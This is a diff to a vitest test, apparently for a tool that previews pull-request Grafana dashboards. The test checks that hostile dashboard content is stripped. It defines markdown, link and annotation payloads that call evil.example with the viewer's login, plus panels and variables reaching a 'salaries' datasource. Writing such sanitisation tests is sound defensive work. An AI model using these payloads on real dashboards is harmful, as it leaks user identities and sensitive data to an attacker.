@@ -1,6 +1,7 @@
 import { mkdirSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
 import { join } from "node:path";
 import { afterAll, beforeAll, expect, test } from "vitest";
+import { grafanaAsks } from "../attack/grafana-asks.ts";
 import { type GitHubDouble, startGitHubDouble } from "../servers/github-double.ts";
 import { type GrafanaDouble, startGrafanaDouble } from "../servers/grafana-double.ts";
 import { type TestServer, temporaryFolder } from "../servers/process.ts";
@@ -47,6 +48,30 @@ function hostileDashboard(): string {
     title: "<!-- dashpreview x --> @team",
     gridPos: { x: 0, y: 40, w: 24, h: 4 },
     options: { mode: "markdown", content: "![x](https://evil.example/p.png?u=${__user.login})" },
+  });
+  model.panels.push(
+    {
+      id: 10,
+      type: "table",
+      title: "salaries",
+      datasource: { type: "grafana", uid: "salaries" },
+      targets: [{ refId: "A", rawSql: "SELECT 1" }],
+    },
+    { id: 11, type: "stat", title: "library", libraryPanel: { uid: 12345, name: "Salaries" } },
+    { id: 12, type: "text", title: "variable", options: { mode: "markdown", content: "!$br(https://evil.example/b.png) ${md:raw}" } },
+  );
+  Object.assign(model, {
+    templating: {
+      list: [
+        { name: "br", type: "custom", query: "[x]" },
+        { name: "db", type: "query", datasource: { type: "grafana", uid: "salaries" }, query: "SELECT 1" },
+      ],
+    },
+    annotations: {
+      list: [
+        { name: "notes", enable: true, datasource: { type: "grafana", uid: "salaries" }, textFormat: "<img src=https://evil.example>" },
+      ],
+    },
   });
   model.links = [{ type: "link", title: "home", url: "https://evil.example/?u=${__user.login}" }];
   return JSON.stringify(model, undefined, 2);
@@ -112,6 +137,9 @@ test("stage two previews the data, with the number from the host and nothing tha
   expect(code).toBe(0);
   const [preview] = grafana.dashboards();
   expect(JSON.stringify(preview!.model)).not.toMatch(/evil\.example|__user/);
+  const asks = new Set(grafanaAsks(preview!.model, "classic"));
+  expect([...asks].filter((each) => !["-- Dashboard --", "__expr__", "notes:dashboard"].includes(each))).toHaveLength(1);
+  expect(JSON.stringify(preview!.model)).not.toMatch(/SELECT|libraryPanel|textFormat|\$br|\$\{md/);
   expect(preview!.model["title"]).toBe("[pr-7] api");
   const [comment] = github.comments;
   expect(comment).toMatchObject({ issue: 7 });
